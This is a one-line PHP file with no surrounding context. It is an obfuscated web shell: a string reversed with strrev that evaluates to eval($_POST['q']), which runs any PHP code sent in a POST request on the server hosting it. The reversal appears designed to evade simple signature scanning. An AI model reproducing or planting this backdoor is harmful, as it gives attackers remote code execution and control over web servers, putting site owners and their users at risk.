<?php eval(strrev(";)]'q'[TSOP_$(lave"));
